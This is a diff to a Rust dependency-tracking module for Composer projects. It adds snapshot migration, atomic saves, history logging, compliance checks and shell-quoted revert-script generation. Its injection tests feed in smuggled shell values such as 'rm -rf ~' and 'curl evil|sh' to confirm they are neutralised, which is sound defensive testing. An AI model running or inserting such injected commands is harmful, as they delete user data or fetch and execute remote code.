@@ -3,19 +3,43 @@
 
 #![allow(dead_code)]
 
-use anyhow::Result;
+use anyhow::{anyhow, Context, Result};
 use chrono::{DateTime, Duration, Utc};
 use serde::{Deserialize, Serialize};
+use serde_json::{json, Value};
 use sha2::{Sha256, Digest};
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::fs;
-use std::path::Path;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::time::{Duration as StdDuration, Instant};
 
 const TRACKER_FILE: &str = ".dpb-dependency-tracker.json";
+/// Append-only JSON lines log with one summary entry per saved snapshot
+const HISTORY_FILE: &str = ".dpb-dependency-history.jsonl";
+
+/// Test and tooling packages that belong in require-dev, never in production require
+const DEV_ONLY_PACKAGES: &[&str] = &[
+    "phpunit/phpunit",
+    "mockery/mockery",
+    "phpstan/phpstan",
+    "vimeo/psalm",
+    "fakerphp/faker",
+    "fzaninotto/faker",
+    "symfony/var-dumper",
+    "phpspec/prophecy",
+    "squizlabs/php_codesniffer",
+    "friendsofphp/php-cs-fixer",
+];
+
+/// Current tracker file format. Files written before versioning are treated as version 0.
+pub const TRACKER_SCHEMA_VERSION: u32 = 1;
 
 /// Snapshot of all dependencies at a point in time
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct DependencySnapshot {
+    #[serde(default)]
+    pub schema_version: u32,
     pub timestamp: String,
     pub checksum: String,
     pub dependencies: Vec<TrackedDependency>,
@@ -45,6 +69,9 @@ pub struct SnapshotMetadata {
     pub repo_path: String,
     pub package_manager: String,
     pub total_count: usize,
+    /// Free-form reason or label, e.g. "pre-upgrade baseline" or a ticket id
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub label: Option<String>,
 }
 
 /// A change between two snapshots
@@ -60,6 +87,9 @@ pub struct DependencyChange {
     pub timestamp: String,
     #[serde(skip_serializing_if = "Option::is_none")]
     pub reason: Option<String>,
+    /// "production" or "development", taken from the snapshot the package appears in
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub dependency_type: Option<String>,
 }
 
 /// A compliance issue with a dependency
@@ -67,7 +97,7 @@ pub struct DependencyChange {
 pub struct ComplianceIssue {
     pub dependency: String,
     pub version: String,
-    pub issue: String, // "license", "security", "outdated", "deprecated"
+    pub issue: String, // "license", "security", "outdated", "deprecated", "conflict", "misconfigured"
     pub severity: String, // "critical", "high", "medium", "low"
     pub description: String,
     pub recommendation: String,
@@ -83,8 +113,8 @@ pub struct DependencyHistory {
     pub stale: Vec<TrackedDependency>,
 }
 
-/// Create a snapshot of current dependencies
-pub fn create_dependency_snapshot(repo_path: &str) -> Result<DependencySnapshot> {
+/// Create a snapshot of current dependencies, optionally labelled with the reason it was taken
+pub fn create_dependency_snapshot(repo_path: &str, label: Option<&str>) -> Result<DependencySnapshot> {
     let deps = super::dependency::analyze_dependencies_raw(repo_path)?;
     let now = Utc::now().to_rfc3339();
     
@@ -123,49 +153,298 @@ pub fn create_dependency_snapshot(repo_path: &str) -> Result<DependencySnapshot>
         });
     }
     
-    // Calculate checksum
-    let mut names: Vec<String> = tracked
+    Ok(DependencySnapshot {
+        schema_version: TRACKER_SCHEMA_VERSION,
+        timestamp: now,
+        checksum: snapshot_checksum(&tracked),
+        dependencies: tracked.clone(),
+        metadata: SnapshotMetadata {
+            repo_path: repo_path.to_string(),
+            package_manager: "composer".to_string(),
+            total_count: tracked.len(),
+            label: label.map(|l| l.to_string()),
+        },
+    })
+}
+
+/// Build a snapshot from composer.lock contents taken from elsewhere, e.g. an
+/// older revision in git. There is no history to draw on, so timestamps are left out.
+pub fn snapshot_from_lock_contents(repo_path: &str, lock_contents: &str, label: &str) -> Result<DependencySnapshot> {
+    let lock = crate::composer::parse_composer_lock(lock_contents)?;
+    let filter = super::dependency::DependencyFilter::default();
+    let deps = super::dependency::analyze_parsed_dependencies(None, Some(lock), &filter)?;
+
+    let tracked: Vec<TrackedDependency> = deps
+        .tree
         .iter()
-        .map(|d| format!("{}@{}", d.name, d.version))
+        .map(|pkg| TrackedDependency {
+            name: pkg.name.clone(),
+            version: pkg.version.clone(),
+            dep_type: pkg.node_type.clone(),
+            added_at: None,
+            updated_at: None,
+            license: pkg.license.clone(),
+            security_status: None,
+        })
         .collect();
-    names.sort();
-    
-    let mut hasher = Sha256::new();
-    hasher.update(names.join("|"));
-    let hash = hasher.finalize();
-    let checksum = hex::encode(&hash[..8]);
-    
+
     Ok(DependencySnapshot {
-        timestamp: now,
-        checksum,
+        schema_version: TRACKER_SCHEMA_VERSION,
+        timestamp: Utc::now().to_rfc3339(),
+        checksum: snapshot_checksum(&tracked),
         dependencies: tracked.clone(),
         metadata: SnapshotMetadata {
             repo_path: repo_path.to_string(),
             package_manager: "composer".to_string(),
             total_count: tracked.len(),
+            label: Some(label.to_string()),
         },
     })
 }
 
+/// Short hash over the sorted name@version list
+fn snapshot_checksum(tracked: &[TrackedDependency]) -> String {
+    let mut names: Vec<String> = tracked
+        .iter()
+        .map(|d| format!("{}@{}", d.name, d.version))
+        .collect();
+    names.sort();
+
+    let mut hasher = Sha256::new();
+    hasher.update(names.join("|"));
+    let hash = hasher.finalize();
+    hex::encode(&hash[..8])
+}
+
 /// Load existing tracker from file
 pub fn load_tracker(repo_path: &str) -> Result<DependencySnapshot> {
-    let tracker_path = Path::new(repo_path).join(TRACKER_FILE);
-    let content = fs::read_to_string(tracker_path)?;
-    let snapshot: DependencySnapshot = serde_json::from_str(&content)?;
+    load_snapshot_file(Path::new(repo_path).join(TRACKER_FILE))
+}
+
+/// Load a snapshot from any tracker-format file, migrating older formats
+pub fn load_snapshot_file<P: AsRef<Path>>(path: P) -> Result<DependencySnapshot> {
+    let content = fs::read_to_string(path)?;
+    let value: Value = serde_json::from_str(&content)?;
+    let snapshot: DependencySnapshot = serde_json::from_value(migrate_tracker(value)?)?;
     Ok(snapshot)
 }
 
-/// Save snapshot to tracker file
+/// Bring a tracker document up to `TRACKER_SCHEMA_VERSION`, one version step at a time
+fn migrate_tracker(mut value: Value) -> Result<Value> {
+    let version = value
+        .get("schema_version")
+        .and_then(|v| v.as_u64())
+        .unwrap_or(0) as u32;
+
+    if version > TRACKER_SCHEMA_VERSION {
+        return Err(anyhow!(
+            "Tracker file schema version {} is newer than supported version {}",
+            version,
+            TRACKER_SCHEMA_VERSION
+        ));
+    }
+
+    if version < 1 {
+        migrate_v0_to_v1(&mut value)?;
+    }
+
+    Ok(value)
+}
+
+/// v0 files predate versioning and may lack metadata or per-dependency types
+fn migrate_v0_to_v1(value: &mut Value) -> Result<()> {
+    let root = value
+        .as_object_mut()
+        .ok_or_else(|| anyhow!("Tracker file is not a JSON object"))?;
+
+    let dependencies = root
+        .entry("dependencies")
+        .or_insert_with(|| Value::Array(Vec::new()));
+    let total_count = dependencies.as_array().map(|d| d.len()).unwrap_or(0);
+    if let Some(dependencies) = dependencies.as_array_mut() {
+        for dep in dependencies.iter_mut().filter_map(|d| d.as_object_mut()) {
+            dep.entry("type").or_insert_with(|| json!("production"));
+        }
+    }
+
+    root.entry("timestamp").or_insert_with(|| json!(""));
+    root.entry("checksum").or_insert_with(|| json!(""));
+
+    let metadata = root.entry("metadata").or_insert_with(|| json!({}));
+    if let Some(metadata) = metadata.as_object_mut() {
+        metadata.entry("repo_path").or_insert_with(|| json!(""));
+        metadata.entry("package_manager").or_insert_with(|| json!("composer"));
+        metadata.entry("total_count").or_insert_with(|| json!(total_count));
+    }
+
+    root.insert("schema_version".to_string(), json!(1));
+    Ok(())
+}
+
+/// Save snapshot to tracker file.
+/// Writes to a temp file and renames it into place so a crash never leaves a truncated tracker.
+/// The history log is secondary: failing to append to it is logged rather than failing a save
+/// whose snapshot is already on disk.
 pub fn save_snapshot(repo_path: &str, snapshot: &DependencySnapshot) -> Result<()> {
     let tracker_path = Path::new(repo_path).join(TRACKER_FILE);
     let content = serde_json::to_string_pretty(snapshot)?;
-    fs::write(tracker_path, content)?;
+
+    let _lock = TrackerLock::acquire(repo_path)?;
+
+    // Keep the snapshot being replaced in the trend when the history log starts
+    if !Path::new(repo_path).join(HISTORY_FILE).exists() {
+        if let Ok(previous) = load_tracker(repo_path) {
+            warn_on_history_error(append_history(repo_path, &previous));
+        }
+    }
+
+    let tmp_path = Path::new(repo_path).join(format!("{}.tmp-{}", TRACKER_FILE, std::process::id()));
+    let write_result = (|| -> Result<()> {
+        let mut file = fs::File::create(&tmp_path)?;
+        file.write_all(content.as_bytes())?;
+        file.sync_all()?;
+        fs::rename(&tmp_path, &tracker_path)?;
+        Ok(())
+    })();
+
+    if write_result.is_err() {
+        let _ = fs::remove_file(&tmp_path);
+    }
+    write_result.with_context(|| format!("Failed to write {:?}", tracker_path))?;
+
+    warn_on_history_error(append_history(repo_path, snapshot));
     Ok(())
 }
 
+fn warn_on_history_error(result: Result<()>) {
+    if let Err(e) = result {
+        eprintln!("Warning: snapshot saved but not added to {}: {:#}", HISTORY_FILE, e);
+    }
+}
+
+/// Summary of a saved snapshot kept in the history log
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SnapshotHistoryEntry {
+    pub timestamp: String,
+    pub checksum: String,
+    pub total_count: usize,
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub label: Option<String>,
+}
+
+fn append_history(repo_path: &str, snapshot: &DependencySnapshot) -> Result<()> {
+    let history_path = Path::new(repo_path).join(HISTORY_FILE);
+    let entry = SnapshotHistoryEntry {
+        timestamp: snapshot.timestamp.clone(),
+        checksum: snapshot.checksum.clone(),
+        total_count: snapshot.metadata.total_count,
+        label: snapshot.metadata.label.clone(),
+    };
+
+    let mut file = fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(&history_path)
+        .with_context(|| format!("Failed to open {:?}", history_path))?;
+    writeln!(file, "{}", serde_json::to_string(&entry)?)?;
+    Ok(())
+}
+
+/// Load the snapshot history log; repos tracked before the log existed fall back to the saved snapshot
+pub fn load_history(repo_path: &str) -> Result<Vec<SnapshotHistoryEntry>> {
+    let history_path = Path::new(repo_path).join(HISTORY_FILE);
+    if !history_path.exists() {
+        return Ok(load_tracker(repo_path)
+            .map(|s| {
+                vec![SnapshotHistoryEntry {
+                    timestamp: s.timestamp,
+                    checksum: s.checksum,
+                    total_count: s.metadata.total_count,
+                    label: s.metadata.label,
+                }]
+            })
+            .unwrap_or_default());
+    }
+
+    let content = fs::read_to_string(&history_path)?;
+    // Skip a partially written last line rather than failing the whole history
+    Ok(content
+        .lines()
+        .filter(|l| !l.trim().is_empty())
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect())
+}
+
+/// Total dependency count per saved snapshot, oldest first
+pub fn dependency_count_trend(repo_path: &str) -> Result<Vec<(String, usize)>> {
+    let mut history = load_history(repo_path)?;
+    history.sort_by(|a, b| a.timestamp.cmp(&b.timestamp));
+    Ok(history.into_iter().map(|e| (e.timestamp, e.total_count)).collect())
+}
+
+/// Sidecar `.lock` file serializing tracker writes; removed when dropped
+struct TrackerLock {
+    path: PathBuf,
+}
+
+impl TrackerLock {
+    const TIMEOUT: StdDuration = StdDuration::from_secs(10);
+    /// A lock older than this is assumed to belong to a crashed process
+    const STALE_AFTER: StdDuration = StdDuration::from_secs(60);
+
+    fn acquire(repo_path: &str) -> Result<Self> {
+        let path = Path::new(repo_path).join(format!("{}.lock", TRACKER_FILE));
+        let started = Instant::now();
+
+        loop {
+            match fs::OpenOptions::new().write(true).create_new(true).open(&path) {
+                Ok(mut file) => {
+                    let _ = write!(file, "{}", std::process::id());
+                    return Ok(Self { path });
+                }
+                Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
+                    let stale = fs::metadata(&path)
+                        .and_then(|m| m.modified())
+                        .ok()
+                        .and_then(|t| t.elapsed().ok())
+                        .is_some_and(|age| age > Self::STALE_AFTER);
+                    if stale {
+                        let _ = fs::remove_file(&path);
+                        continue;
+                    }
+                    if started.elapsed() > Self::TIMEOUT {
+                        return Err(anyhow!("Timed out waiting for tracker lock {:?}", path));
+                    }
+                    std::thread::sleep(StdDuration::from_millis(50));
+                }
+                Err(e) => return Err(e).with_context(|| format!("Failed to create tracker lock {:?}", path)),
+            }
+        }
+    }
+}
+
+impl Drop for TrackerLock {
+    fn drop(&mut self) {
+        let _ = fs::remove_file(&self.path);
+    }
+}
+
+/// Describe the span between two snapshots by their labels, if either has one
+pub fn describe_snapshot_span(old: &DependencySnapshot, new: &DependencySnapshot) -> Option<String> {
+    if old.metadata.label.is_none() && new.metadata.label.is_none() {
+        return None;
+    }
+    Some(format!(
+        "between '{}' and '{}'",
+        old.metadata.label.as_deref().unwrap_or(&old.timestamp),
+        new.metadata.label.as_deref().unwrap_or(&new.timestamp)
+    ))
+}
+
 /// Compare two snapshots and return changes
 pub fn compare_snapshots(old: &DependencySnapshot, new: &DependencySnapshot) -> Vec<DependencyChange> {
     let mut changes = Vec::new();
+    let reason = describe_snapshot_span(old, new);
     
     let old_deps: HashMap<&str, &TrackedDependency> = old
         .dependencies
@@ -189,7 +468,8 @@ pub fn compare_snapshots(old: &DependencySnapshot, new: &DependencySnapshot) ->
                     old_version: Some(old_dep.version.clone()),
                     new_version: Some(new_dep.version.clone()),
                     timestamp: new.timestamp.clone(),
-                    reason: None,
+                    reason: reason.clone(),
+                    dependency_type: Some(old_dep.dep_type.clone()),
                 });
             }
         } else {
@@ -199,7 +479,8 @@ pub fn compare_snapshots(old: &DependencySnapshot, new: &DependencySnapshot) ->
                 old_version: None,
                 new_version: Some(new_dep.version.clone()),
                 timestamp: new.timestamp.clone(),
-                reason: None,
+                reason: reason.clone(),
+                dependency_type: Some(new_dep.dep_type.clone()),
             });
         }
     }
@@ -213,7 +494,8 @@ pub fn compare_snapshots(old: &DependencySnapshot, new: &DependencySnapshot) ->
                 old_version: Some(old_dep.version.clone()),
                 new_version: None,
                 timestamp: new.timestamp.clone(),
-                reason: None,
+                reason: reason.clone(),
+                dependency_type: Some(old_dep.dep_type.clone()),
             });
         }
     }
@@ -223,7 +505,7 @@ pub fn compare_snapshots(old: &DependencySnapshot, new: &DependencySnapshot) ->
 
 /// Get dependency history with categorization
 pub fn get_dependency_history(repo_path: &str) -> Result<DependencyHistory> {
-    let snapshot = create_dependency_snapshot(repo_path)?;
+    let snapshot = create_dependency_snapshot(repo_path, None)?;
     let now = Utc::now();
     let thirty_days_ago = now - Duration::days(30);
     let one_year_ago = now - Duration::days(365);
@@ -264,7 +546,7 @@ pub fn get_dependency_history(repo_path: &str) -> Result<DependencyHistory> {
 
 /// Check dependencies for compliance issues
 pub fn check_compliance(repo_path: &str) -> Result<Vec<ComplianceIssue>> {
-    let snapshot = create_dependency_snapshot(repo_path)?;
+    let snapshot = create_dependency_snapshot(repo_path, None)?;
     let mut issues = Vec::new();
     
     let restrictive_licenses = ["GPL-3.0", "AGPL-3.0", "GPL-2.0", "SSPL"];
@@ -307,16 +589,402 @@ pub fn check_compliance(repo_path: &str) -> Result<Vec<ComplianceIssue>> {
             }
         }
     }
+
+    // Dev tooling required for production ships to every deploy
+    if let Ok(composer) = crate::composer::read_composer_json(repo_path) {
+        let mut misplaced: Vec<&String> = composer
+            .require
+            .iter()
+            .flatten()
+            .map(|(name, _)| name)
+            .filter(|name| DEV_ONLY_PACKAGES.iter().any(|p| p.eq_ignore_ascii_case(name)))
+            .collect();
+        misplaced.sort();
+        for name in misplaced {
+            let constraint = composer.require.as_ref().and_then(|r| r.get(name)).map(String::as_str);
+            let version = snapshot
+                .dependencies
+                .iter()
+                .find(|d| d.name.eq_ignore_ascii_case(name))
+                .map(|d| d.version.clone())
+                .unwrap_or_else(|| constraint.unwrap_or_default().to_string());
+            issues.push(ComplianceIssue {
+                dependency: name.clone(),
+                version,
+                issue: "misconfigured".to_string(),
+                severity: "medium".to_string(),
+                description: format!("{} is a development tool but is listed in require", name),
+                recommendation: format!("Move it to require-dev: {}", move_to_dev_command(name, constraint)),
+                auto_fix_available: true,
+            });
+        }
+    }
+
+    // Installed versions another installed package declares it cannot run with
+    if let Ok(lock) = crate::composer::read_composer_lock(repo_path) {
+        for conflict in super::security::find_installed_conflicts(&lock, true) {
+            issues.push(ComplianceIssue {
+                dependency: conflict.package.clone(),
+                version: conflict.version.clone(),
+                issue: "conflict".to_string(),
+                severity: "high".to_string(),
+                description: conflict.describe(),
+                recommendation: format!(
+                    "Update {} or {} so their versions no longer conflict",
+                    conflict.package, conflict.declared_by
+                ),
+                auto_fix_available: false,
+            });
+        }
+    }
     
     Ok(issues)
 }
 
-/// Generate command to revert a dependency change
-pub fn generate_revert_command(change: &DependencyChange) -> String {
-    match change.change_type.as_str() {
-        "added" => format!("composer remove {}", change.name),
-        "removed" => format!("composer require {}:{}", change.name, change.old_version.as_deref().unwrap_or("*")),
-        "updated" => format!("composer require {}:{}", change.name, change.old_version.as_deref().unwrap_or("*")),
+/// Command that moves a package from require to require-dev, keeping its constraint so the
+/// move doesn't also upgrade it
+pub fn move_to_dev_command(name: &str, constraint: Option<&str>) -> String {
+    let package = match constraint {
+        Some(constraint) => format!("{}:{}", name, constraint),
+        None => name.to_string(),
+    };
+    format!("composer remove {} && composer require --dev {}", shell_quote(name), shell_quote(&package))
+}
+
+/// Generate command to revert a dependency change. Only root requires (`is_root`) are
+/// removed or re-required; a transitive package is pinned back with `update --with`, since
+/// `composer require` would promote it into composer.json and `composer remove` fails on it.
+pub fn generate_revert_command(change: &DependencyChange, is_root: bool) -> String {
+    let name = shell_quote(&change.name);
+    let pinned = shell_quote(&format!("{}:{}", change.name, change.old_version.as_deref().unwrap_or("*")));
+    match (change.change_type.as_str(), is_root) {
+        ("added", true) => format!("composer remove {}", name),
+        ("removed", true) | ("updated", true) => format!("composer require {}", pinned),
+        ("updated", false) => format!("composer update {} --with {}", name, pinned),
+        ("added", false) | ("removed", false) => {
+            // A line break in the name would end the comment and start a command
+            format!("# {} is transitive; it follows the packages that require it", name.replace(['\r', '\n'], " "))
+        }
         _ => String::new(),
     }
 }
+
+/// Lowercased names in composer.json's require and require-dev; empty without a composer.json
+pub fn root_requires(repo_path: &str) -> HashSet<String> {
+    crate::composer::read_composer_json(repo_path)
+        .map(|c| c.require.iter().chain(c.require_dev.iter()).flatten().map(|(n, _)| n.to_lowercase()).collect())
+        .unwrap_or_default()
+}
+
+/// Generate an ordered shell script that reverts all `changes` (old -> new) back to the old state.
+/// Removals run first so re-required packages cannot conflict with packages that are going away.
+/// Only `root` packages (composer.json requires) are removed or re-required; transitive
+/// downgrades use `composer update --with`, and transitive additions and removals follow
+/// the root packages that pull them in.
+pub fn generate_revert_script(changes: &[DependencyChange], root: &HashSet<String>) -> String {
+    let mut sorted: Vec<&DependencyChange> = changes.iter().collect();
+    sorted.sort_by(|a, b| a.name.cmp(&b.name));
+
+    let is_dev = |c: &DependencyChange| c.dependency_type.as_deref() == Some("development");
+    let pinned = |c: &DependencyChange| {
+        shell_quote(&format!("{}:{}", c.name, c.old_version.as_deref().unwrap_or("*")))
+    };
+    let quoted = |c: &DependencyChange| shell_quote(&c.name);
+
+    let (direct, transitive): (Vec<&DependencyChange>, Vec<&DependencyChange>) =
+        sorted.iter().copied().partition(|c| root.contains(&c.name.to_lowercase()));
+    let added: Vec<&DependencyChange> = direct.iter().copied().filter(|c| c.change_type == "added").collect();
+    let restore: Vec<&DependencyChange> = direct
+        .iter()
+        .copied()
+        .filter(|c| c.change_type == "removed" || c.change_type == "updated")
+        .collect();
+    let downgrade: Vec<&DependencyChange> =
+        transitive.iter().copied().filter(|c| c.change_type == "updated").collect();
+    let follow: Vec<&str> = transitive
+        .iter()
+        .filter(|c| c.change_type != "updated")
+        .map(|c| c.name.as_str())
+        .collect();
+
+    let mut script = String::from("#!/bin/sh\n# Revert dependency changes\n");
+    if let Some(reason) = sorted.iter().find_map(|c| c.reason.as_deref()) {
+        // A line break in the label would end the comment and start a command
+        script.push_str(&format!("# Changes {}\n", reason.replace(['\r', '\n'], " ")));
+    }
+    script.push_str("set -e\n");
+
+    if changes.is_empty() {
+        script.push_str("\n# No changes to revert\n");
+        return script;
+    }
+
+    let mut step = 0;
+    let mut push_step = |script: &mut String, comment: String, command: String| {
+        step += 1;
+        script.push_str(&format!("\n# Step {}: {}\n{}\n", step, comment, command));
+    };
+
+    for (dev, label) in [(false, "production"), (true, "development")] {
+        let names: Vec<String> = added.iter().filter(|c| is_dev(c) == dev).map(|c| quoted(c)).collect();
+        if !names.is_empty() {
+            push_step(
+                &mut script,
+                format!("remove {} package(s) added since the snapshot", label),
+                format!("composer remove{} {}", if dev { " --dev" } else { "" }, names.join(" ")),
+            );
+        }
+    }
+
+    for (dev, label) in [(false, "production"), (true, "development")] {
+        let group: Vec<&&DependencyChange> = restore.iter().filter(|c| is_dev(c) == dev).collect();
+        if group.is_empty() {
+            continue;
+        }
+        let updated = group.iter().filter(|c| c.change_type == "updated").count();
+        let removed = group.len() - updated;
+        push_step(
+            &mut script,
+            format!(
+                "restore {} package(s): {} downgraded/changed back, {} re-added",
+                label, updated, removed
+            ),
+            format!(
+                "composer require{} {}",
+                if dev { " --dev" } else { "" },
+                group.iter().map(|c| pinned(c)).collect::<Vec<_>>().join(" ")
+            ),
+        );
+    }
+
+    if !downgrade.is_empty() {
+        push_step(
+            &mut script,
+            format!("pin {} transitive package(s) back without adding them to composer.json", downgrade.len()),
+            format!(
+                "composer update {} {}",
+                downgrade.iter().map(|c| quoted(c)).collect::<Vec<_>>().join(" "),
+                downgrade.iter().map(|c| format!("--with {}", pinned(c))).collect::<Vec<_>>().join(" ")
+            ),
+        );
+    }
+
+    if !follow.is_empty() {
+        script.push_str(&format!(
+            "\n# Transitive packages added or removed follow the packages above: {}\n",
+            follow.join(", ")
+        ));
+    }
+
+    push_step(
+        &mut script,
+        "sync vendor/ with the reverted lock file".to_string(),
+        "composer install".to_string(),
+    );
+
+    script
+}
+
+/// Quote `value` as a single POSIX shell word; names and versions come from the lock file
+fn shell_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+/// Rollback plan between two snapshots
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RevertPlan {
+    pub changes: Vec<DependencyChange>,
+    pub script: String,
+}
+
+/// Build the rollback script from `to` back to `from`.
+/// `from` defaults to the saved tracker snapshot and `to` to the current dependency state.
+pub fn generate_revert_plan(repo_path: &str, from: Option<&str>, to: Option<&str>) -> Result<RevertPlan> {
+    let old = match from {
+        Some(path) => load_snapshot_file(path).with_context(|| format!("Failed to load snapshot {}", path))?,
+        None => load_tracker(repo_path)
+            .context("No saved snapshot found; run track_dependencies first or pass from_snapshot")?,
+    };
+    let new = match to {
+        Some(path) => load_snapshot_file(path).with_context(|| format!("Failed to load snapshot {}", path))?,
+        None => create_dependency_snapshot(repo_path, None)?,
+    };
+
+    let mut changes = compare_snapshots(&old, &new);
+    changes.sort_by(|a, b| a.name.cmp(&b.name));
+    let script = generate_revert_script(&changes, &root_requires(repo_path));
+
+    Ok(RevertPlan { changes, script })
+}
+
+/// Changes since the saved tracker snapshot, with a revert command for each
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ChangesSinceLast {
+    /// Timestamp of the saved snapshot the current state is compared against
+    pub since: String,
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub label: Option<String>,
+    pub changed: bool,
+    pub changes: Vec<DependencyChange>,
+    pub revert_commands: Vec<String>,
+}
+
+/// Diff the current dependencies against the saved tracker snapshot without saving a new one
+pub fn get_changes_since_last(repo_path: &str) -> Result<ChangesSinceLast> {
+    let old = load_tracker(repo_path).context("No saved snapshot found; run track_dependencies first")?;
+    let new = create_dependency_snapshot(repo_path, None)?;
+
+    let mut changes = compare_snapshots(&old, &new);
+    changes.sort_by(|a, b| a.name.cmp(&b.name));
+    let root = root_requires(repo_path);
+    let revert_commands = changes
+        .iter()
+        .map(|c| generate_revert_command(c, root.contains(&c.name.to_lowercase())))
+        .collect();
+
+    Ok(ChangesSinceLast {
+        since: old.timestamp,
+        label: old.metadata.label,
+        changed: !changes.is_empty(),
+        changes,
+        revert_commands,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_load_v0_tracker_migrates() {
+        let temp = crate::test_support::temp_dir();
+        let dir = temp.path();
+
+        // Unversioned file as written before schema_version existed, minus optional fields
+        let v0 = json!({
+            "timestamp": "2024-01-01T00:00:00+00:00",
+            "checksum": "abcdef0123456789",
+            "dependencies": [
+                {"name": "monolog/monolog", "version": "2.9.1", "type": "production"},
+                {"name": "psr/log", "version": "1.1.4"}
+            ]
+        });
+        fs::write(dir.join(TRACKER_FILE), v0.to_string()).unwrap();
+
+        let snapshot = load_tracker(dir.to_str().unwrap()).unwrap();
+
+        assert_eq!(snapshot.schema_version, TRACKER_SCHEMA_VERSION);
+        assert_eq!(snapshot.checksum, "abcdef0123456789");
+        assert_eq!(snapshot.dependencies.len(), 2);
+        assert_eq!(snapshot.dependencies[1].dep_type, "production");
+        assert_eq!(snapshot.metadata.package_manager, "composer");
+        assert_eq!(snapshot.metadata.total_count, 2);
+    }
+
+    #[test]
+    fn test_revert_script_keeps_transitive_packages_out_of_require() {
+        let change = |change_type: &str, name: &str, old: Option<&str>| DependencyChange {
+            change_type: change_type.to_string(),
+            name: name.to_string(),
+            old_version: old.map(str::to_string),
+            new_version: None,
+            timestamp: String::new(),
+            reason: None,
+            dependency_type: Some("production".to_string()),
+        };
+        let changes = vec![
+            change("added", "acme/new", None),
+            change("added", "acme/new-transitive", None),
+            change("updated", "acme/direct", Some("1.0.0")),
+            change("updated", "psr/log", Some("1.1.4")),
+        ];
+        let root = HashSet::from(["acme/new".to_string(), "acme/direct".to_string()]);
+
+        let script = generate_revert_script(&changes, &root);
+        assert!(script.contains("\ncomposer remove 'acme/new'\n"));
+        assert!(script.contains("\ncomposer require 'acme/direct:1.0.0'\n"));
+        assert!(script.contains("\ncomposer update 'psr/log' --with 'psr/log:1.1.4'\n"));
+        assert!(!script.contains("require 'psr/log"));
+        assert!(!script.contains("remove 'acme/new-transitive'"));
+    }
+
+    #[test]
+    fn test_revert_script_cannot_be_injected() {
+        let changes = vec![DependencyChange {
+            change_type: "updated".to_string(),
+            name: "acme/lib".to_string(),
+            old_version: Some("1.0'; rm -rf ~; '".to_string()),
+            new_version: None,
+            timestamp: String::new(),
+            reason: Some("since release\nrm -rf ~\r".to_string()),
+            dependency_type: Some("production".to_string()),
+        }];
+        let root = HashSet::from(["acme/lib".to_string()]);
+
+        let script = generate_revert_script(&changes, &root);
+        assert!(script.contains("# Changes since release rm -rf ~ \n"));
+        assert!(script.contains("\ncomposer require 'acme/lib:1.0'\\''; rm -rf ~; '\\'''\n"));
+        assert!(!script.lines().any(|l| l.starts_with("rm")));
+    }
+
+    #[test]
+    fn test_revert_commands_cannot_be_injected() {
+        let change = |change_type: &str, name: &str| DependencyChange {
+            change_type: change_type.to_string(),
+            name: name.to_string(),
+            old_version: Some("1.0; curl evil|sh".to_string()),
+            new_version: None,
+            timestamp: String::new(),
+            reason: None,
+            dependency_type: Some("production".to_string()),
+        };
+
+        assert_eq!(generate_revert_command(&change("added", "a/b;curl evil|sh"), true), "composer remove 'a/b;curl evil|sh'");
+        assert_eq!(
+            generate_revert_command(&change("updated", "a/b'$(id)"), true),
+            "composer require 'a/b'\\''$(id):1.0; curl evil|sh'"
+        );
+        assert_eq!(
+            generate_revert_command(&change("updated", "a/b"), false),
+            "composer update 'a/b' --with 'a/b:1.0; curl evil|sh'"
+        );
+        let comment = generate_revert_command(&change("removed", "a/b\nrm -rf ~"), false);
+        assert_eq!(comment.lines().count(), 1);
+        assert!(comment.starts_with("# 'a/b rm -rf ~'"));
+    }
+
+    #[test]
+    fn test_snapshot_is_saved_when_history_append_fails() {
+        let temp = crate::test_support::temp_dir();
+        let dir = temp.path();
+        let repo_path = dir.to_str().unwrap();
+        let v0 = json!({"timestamp": "2024-01-01T00:00:00+00:00", "checksum": "abc", "dependencies": []});
+        fs::write(dir.join(TRACKER_FILE), v0.to_string()).unwrap();
+        let mut snapshot = load_tracker(repo_path).unwrap();
+        snapshot.checksum = "def".to_string();
+        // A directory where the history log should be makes every append fail
+        fs::create_dir(dir.join(HISTORY_FILE)).unwrap();
+
+        save_snapshot(repo_path, &snapshot).unwrap();
+
+        assert_eq!(load_tracker(repo_path).unwrap().checksum, "def");
+    }
+
+    #[test]
+    fn test_move_to_dev_keeps_the_constraint() {
+        assert_eq!(
+            move_to_dev_command("phpunit/phpunit", Some("^10.5")),
+            "composer remove 'phpunit/phpunit' && composer require --dev 'phpunit/phpunit:^10.5'"
+        );
+        assert_eq!(
+            move_to_dev_command("phpunit/phpunit", None),
+            "composer remove 'phpunit/phpunit' && composer require --dev 'phpunit/phpunit'"
+        );
+    }
+
+    #[test]
+    fn test_newer_tracker_is_rejected() {
+        let newer = json!({"schema_version": TRACKER_SCHEMA_VERSION + 1});
+        assert!(migrate_tracker(newer).is_err());
+    }
+}